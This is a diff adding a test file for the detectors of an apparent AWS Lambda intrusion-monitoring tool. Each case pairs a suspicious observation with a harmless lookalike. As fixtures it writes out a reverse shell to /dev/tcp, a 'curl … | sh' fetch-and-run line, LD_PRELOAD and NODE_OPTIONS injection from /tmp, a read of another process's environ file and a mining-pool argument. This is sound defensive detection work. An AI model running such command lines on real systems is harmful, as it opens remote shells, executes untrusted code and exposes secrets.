@@ -1,0 +1,100 @@
+/** Every detector: an observation that has what it looks for, and one that only looks like it. */
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import type { Observation } from '../../src/contracts.ts';
+import { DETECTORS } from '../../src/detect/index.ts';
+import { baselineOf, fileOf, findingsOf, INIT_MS, nowOf, ownOf, processOf, RUNTIME, socketOf, told, within, type Look } from './scene.ts';
+
+interface Case {
+  /** The finding that must be there, `detector:severity`. */
+  readonly finds: string;
+  readonly in: Look;
+  /** What only looks like it: the detector must be silent, or say no more than this. */
+  readonly not: Look;
+  readonly atMost?: 'low' | 'medium';
+}
+
+const look = (facts: Partial<Observation>, baseline?: Observation): Look => ({ now: nowOf(facts), ...(baseline === undefined ? {} : { baseline }) });
+const inside = (facts: Partial<Observation>): Look => ({ now: within(facts) });
+const one = (facts: Parameters<typeof processOf>[0]): Look => look({ processes: [processOf(facts)] });
+
+// prettier-ignore
+const CASES: Readonly<Record<string, Case>> = {
+  'another program under the pid of the runtime': { finds: 'runtime-changed:critical', in: look({ processes: [{ ...RUNTIME, exe: '/tmp/new_runtime' }] }), not: look({ processes: [{ ...RUNTIME, argv: ['my-service'] }] }), atMost: 'low' },
+  'another interpreter of the system under the pid of the runtime': { finds: 'runtime-changed:high', in: look({ processes: [{ ...RUNTIME, exe: '/usr/bin/python3' }] }), not: look({ processes: [processOf({ pid: 9, startTicks: 9999, role: 'runtime', exe: '/usr/bin/python3' })] }) },
+  'a memfd': { finds: 'staged-executable:high', in: one({ exe: '/memfd:x', exeDeleted: true }), not: one({ exe: '/var/task/memfd:x' }) },
+  'a deleted executable of /tmp': { finds: 'staged-executable:high', in: one({ exe: '/tmp/stage2', exeDeleted: true }), not: one({ exe: '/tmpfiles/stage2' }) },
+  'an executable of /tmp': { finds: 'staged-executable:medium', in: one({ exe: '/tmp/tool' }), not: look({ processes: [processOf({ exe: '/tmp/tool' })] }, baselineOf({ processes: [processOf({ exe: '/tmp/tool' })] })), atMost: 'low' },
+  'the runtime out of /tmp': { finds: 'staged-executable:critical', in: look({ processes: [{ ...RUNTIME, exe: '/tmp/node' }] }), not: look({}) },
+  'a new ELF': { finds: 'staged-file:low', in: look({ files: [fileOf({ magic: 'elf' })] }), not: look({ files: [fileOf({ magic: 'elf', ctimeMs: INIT_MS - 1 })] }) },
+  'a new script behind a dot': { finds: 'staged-file:medium', in: look({ files: [fileOf({ path: '/tmp/.x', magic: 'script' })] }), not: look({ files: [fileOf({ path: '/tmp/.x', magic: 'text' })] }) },
+  'a link to the runtime': { finds: 'staged-file:medium', in: look({ files: [fileOf({ type: 'link', target: '/var/runtime/lib/lambda_handler.rb', magic: 'unread' })] }), not: look({ files: [fileOf({ type: 'link', target: '/tmp/cache/1', magic: 'unread' })] }) },
+  'a preloaded object': { finds: 'mapped-object:high', in: one({ mapped: ['/tmp/hook.so'], env: { LD_PRELOAD: '/tmp/hook.so' } }), not: one({ mapped: ['/memfd:libffi (deleted)'] }), atMost: 'low' },
+  'an object of /tmp in the runtime': { finds: 'mapped-object:medium', in: look({ processes: [{ ...RUNTIME, mapped: ['/tmp/a.node'] }] }), not: look({ processes: [{ ...RUNTIME, mapped: [] }] }) },
+  'the name of a kernel thread': { finds: 'disguised-name:high', in: one({ argv: ['[kworker/0:1]'] }), not: one({ argv: ['kworkspace'] }) },
+  'a python that is none': { finds: 'disguised-name:critical', in: one({ exe: '/tmp/python', comm: 'python', argv: ['/tmp/python'] }), not: one({ exe: '/usr/bin/python3.12', comm: 'python3', argv: ['python3', '/var/task/job.py'] }) },
+  'a node by its arguments alone': { finds: 'disguised-name:low', in: one({ exe: '/var/task/bin/tool', argv: ['node'] }), not: one({ exe: '/var/lang/bin/node', comm: 'MainThread', argv: ['node', '/var/task/worker.mjs'] }) },
+  'a shell that waits for commands': { finds: 'shell-child:medium', in: one({ exe: '/usr/bin/bash', argv: ['bash', '-i'] }), not: one({ exe: '/usr/bin/bash', argv: ['sh', '-c', 'ls /var/task'] }), atMost: 'low' },
+  'a shell with a socket of its own': { finds: 'shell-child:critical', in: one({ exe: '/usr/bin/bash', argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] }), not: one({ exe: '/var/task/bin/bashful', argv: ['bashful'] }) },
+  'a downloader': { finds: 'shell-child:medium', in: one({ exe: '/usr/bin/curl', argv: ['curl', 'https://x.example'] }), not: one({ exe: '/usr/bin/curling' }) },
+  'a script of /tmp': { finds: 'second-interpreter:medium', in: one({ exe: '/usr/bin/python3', argv: ['python3', '/tmp/bootstrap.py'] }), not: one({ exe: '/var/lang/bin/node', argv: ['node', '/var/task/worker.mjs'] }), atMost: 'low' },
+  'code in arguments': { finds: 'second-interpreter:medium', in: one({ exe: '/usr/bin/perl', argv: ['perl', '-e', 'sleep 99'] }), not: one({ exe: '/usr/bin/python3', argv: ['python3', '-c', 'from multiprocessing.spawn import spawn_main'] }), atMost: 'low' },
+  'a shell for somebody outside': { finds: 'stdio-socket:critical', in: look({ processes: [processOf({ exe: '/usr/bin/sh', stdio: ['socket:[700]', 'socket:[700]', 'socket:[700]'] })], sockets: [socketOf({})] }), not: one({ exe: '/usr/bin/sh', argv: ['sh', '-c', 'x'], stdio: ['socket:[12]', 'socket:[13]', 'socket:[14]'] }) },
+  'a terminal': { finds: 'stdio-socket:medium', in: one({ stdio: ['/dev/pts/0', '/dev/pts/0', '/dev/pts/0'] }), not: one({ stdio: ['/dev/null', 'pipe:[1]', 'pipe:[1]'] }) },
+  'a shell that was left behind': { finds: 'survivor:high', in: one({ exe: '/usr/bin/sh', argv: ['sh', '-c', 'while :; do sleep 1; done'], ppid: 1 }), not: one({ exe: '/var/task/bin/esbuild', argv: ['esbuild', '--service'] }), atMost: 'low' },
+  'a program that listens to nobody': { finds: 'survivor:medium', in: one({ session: 40, stdio: ['/dev/null', '/dev/null', '/dev/null'] }), not: one({ session: 40, stdio: ['/dev/null', 'pipe:[1]', 'pipe:[2]'] }), atMost: 'low' },
+  'somebody else at the Runtime API': { finds: 'runtime-api-client:high', in: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '127.0.0.1', remotePort: 9001 })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '127.0.0.1', remotePort: 9001, pids: [9, 40] })] }) },
+  'another Runtime API for the runtime': { finds: 'runtime-api-proxy:high', in: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, AWS_LAMBDA_RUNTIME_API: '127.0.0.1:8888' } }] }), not: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, AWS_LAMBDA_RUNTIME_API: '127.0.0.1:9002', AWS_LAMBDA_EXEC_WRAPPER: '/opt/monitor' } }] }), atMost: 'medium' },
+  'an extension that listens as the Runtime API': { finds: 'runtime-api-proxy:high', in: look({ sockets: [socketOf({ state: 'LISTEN', localAddress: '127.0.0.1', localPort: 9001, remotePort: 0, pids: [5] })] }), not: look({ sockets: [socketOf({ state: 'LISTEN', localAddress: '127.0.0.1', localPort: 9001, remotePort: 0, pids: [1] }), socketOf({ state: 'LISTEN', localAddress: '127.0.0.1', localPort: 2773, remotePort: 0, pids: [5] })] }) },
+  'a Runtime API that code has changed': { finds: 'runtime-api-proxy:high', in: inside({ own: ownOf({ env: { AWS_LAMBDA_RUNTIME_API: '127.0.0.1:8888' } }) }), not: inside({}) },
+  'a loader variable into /tmp': { finds: 'environment-drift:high', in: one({ env: { LD_PRELOAD: '/tmp/a.so' } }), not: one({ env: { LD_LIBRARY_PATH: '/tmp/al2023/lib' } }), atMost: 'low' },
+  'a runtime that was started with code of /tmp': { finds: 'environment-drift:high', in: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, NODE_OPTIONS: '--require /tmp/a.cjs' } }] }), not: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, NODE_OPTIONS: '--require /opt/nodejs/monitor.cjs' } }] }), atMost: 'low' },
+  'a proxy that code has set': { finds: 'environment-drift:medium', in: inside({ own: ownOf({ env: { HTTPS_PROXY: 'http://127.0.0.1:8080' } }) }), not: inside({ own: ownOf({ env: { AWS_LAMBDA_RUNTIME_API: '127.0.0.1:9001', PATH: '/tmp/bin:/usr/bin' } }) }), atMost: 'low' },
+  'the environment of another process': { finds: 'environ-reader:high', in: one({ peeks: ['/proc/9/environ'] }), not: look({ processes: [processOf({ role: 'extension', peeks: ['/proc/9/maps'] })] }), atMost: 'low' },
+  'a cat of an environment': { finds: 'environ-reader:high', in: one({ exe: '/usr/bin/cat', argv: ['cat', '/proc/9/environ'] }), not: one({ exe: '/usr/bin/cat', argv: ['cat', '/proc/meminfo'] }) },
+  'a miner': { finds: 'miner:critical', in: one({ argv: ['x', '-o', 'stratum+tcp://pool.example:3333', '--donate-level=1'] }), not: one({ argv: ['x', '--level', '4AAAA'] }) },
+  'work at the port of a pool': { finds: 'miner:high', in: look({ processes: [processOf({ ticks: 1900 })], sockets: [socketOf({ remotePort: 3333 })] }), not: look({ processes: [processOf({ ticks: 1 })], sockets: [socketOf({ remotePort: 3333 })] }), atMost: 'medium' },
+  'a shell that talks to a stranger': { finds: 'outbound:high', in: look({ processes: [processOf({ exe: '/usr/bin/curl', argv: ['curl', 'https://x.example'] })], sockets: [socketOf({ remoteAddress: '203.0.113.7' })] }), not: look({ sockets: [socketOf({ remoteAddress: '203.0.113.7', pids: [9] })] }), atMost: 'low' },
+  'a program of /tmp that talks to a stranger': { finds: 'outbound:high', in: look({ processes: [processOf({ exe: '/tmp/tool' })], sockets: [socketOf({ remoteAddress: '203.0.113.7' })] }), not: look({ processes: [processOf({ exe: '/tmp/tool' })], sockets: [socketOf({ remoteAddress: '52.94.5.1' })] }) },
+  'another resolver': { finds: 'foreign-resolver:high', in: look({ processes: [processOf({})], sockets: [socketOf({ protocol: 'udp', remoteAddress: '127.0.0.1', remotePort: 53, state: 'ESTABLISHED' })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ protocol: 'udp', remoteAddress: '169.254.78.1', remotePort: 53 })] }) },
+  'a resolver that code has set': { finds: 'foreign-resolver:medium', in: inside({ own: ownOf({ resolvers: ['203.0.113.9'] }) }), not: inside({}) },
+  'DNS over HTTPS': { finds: 'foreign-resolver:high', in: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '1.1.1.1' })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '1.1.1.1', remotePort: 80 })] }) },
+  'a key of somebody else': { finds: 'foreign-credentials:medium', in: look({ files: [fileOf({ accessKeys: ['AKIAOTHEROTHEROTHER1'] })] }), not: look({ files: [fileOf({ accessKeys: ['ASIAOWNOWNOWNOWNOWN1'] })] }) },
+  'an extension that was not there': { finds: 'unknown-extension:high', in: look({ extensions: ['monitor', 'sneak'] }), not: look({}) },
+  'a file that turns extensions off': { finds: 'unknown-extension:medium', in: look({ extensions: ['disable-extensions-jwigqn8j'] }, baselineOf({ extensions: ['disable-extensions-jwigqn8j'] })), not: look({}) },
+  'an extension that is not listed': { finds: 'unknown-extension:medium', in: { now: nowOf(), policy: 'high,allow:extension=known' }, not: { now: nowOf(), policy: 'high,allow:extension=mon*' } },
+  'a changed handler file': { finds: 'code-changed:high', in: look({ code: { handler: 'index.handler', stats: { '/var/task': '1:2:3:4:5', '/var/task/index.mjs': '1:3:9:9:9' } } }), not: look({}) },
+  'another handler': { finds: 'code-changed:high', in: look({ code: { ...baselineOf().code, handler: 'evil.handler' } }), not: look({ code: { ...baselineOf().code, handler: undefined } }) },
+  'a built-in out of a text': { finds: 'patched-builtins:high', in: inside({ own: ownOf({ patched: [{ name: 'JSON.parse', script: '' }] }) }), not: inside({ own: ownOf({ patched: [{ name: 'http.request', script: 'file:///opt/nodejs/trace.mjs' }] }) }), atMost: 'low' },
+  'a command line of an intruder': { finds: 'child-process-use:high', in: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', args: '-c curl -s http://x.example/a | sh', pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: 'git', args: '--version', pid: 3, atMs: 1 }] }) }) },
+  'a file of /tmp that was started': { finds: 'child-process-use:low', in: inside({ own: ownOf({ spawned: [{ file: '/tmp/chromium', args: '--headless', pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/var/task/bin/x', args: '/tmp/in /tmp/out', pid: 3, atMs: 1 }] }) }) },
+  'memory that has doubled': { finds: 'resource-jump:low', in: inside({ own: ownOf({ rssBytes: 2e9 }) }), not: inside({ own: ownOf({ rssBytes: 1.9e8 }) }) },
+};
+
+describe('detectors', () => {
+  for (const [name, { finds, in: has, not, atMost }] of Object.entries(CASES)) {
+    const [detector = ''] = finds.split(':');
+    test(`${detector}: ${name}`, () => {
+      assert.ok(told(has).includes(finds), `found ${told(has).join(', ') || 'nothing'}`);
+      const severities = findingsOf(not).filter((finding) => finding.detector === detector).map(({ severity }) => severity);
+      const allowed = atMost === undefined ? [] : atMost === 'low' ? ['low'] : ['low', 'medium'];
+      assert.deepEqual(severities.filter((severity) => !allowed.includes(severity)), [], 'what only looks like it');
+    });
+  }
+
+  test('every one has a case of its own', () => {
+    const tested = new Set(Object.values(CASES).map(({ finds }) => finds.split(':')[0]));
+    assert.deepEqual(DETECTORS.filter(({ name }) => !tested.has(name)).map(({ name }) => name), []);
+  });
+
+  test('an ordinary sandbox has no findings, seen from either side', () => {
+    assert.deepEqual(told(look({})), []);
+    assert.deepEqual(told(inside({})), []);
+  });
+
+  test('no finding holds the value of a variable that is not watched, or a control character that was not there', () => {
+    const findings = findingsOf(one({ exe: '/tmp/\xff\n', argv: ['/tmp/\xff\n', 'x'.repeat(5000)] }));
+    assert.ok(findings.length > 0);
+    for (const { title, evidence } of findings) for (const text of [title, ...evidence]) assert.ok(text.length <= 301, text);
+  });
+});
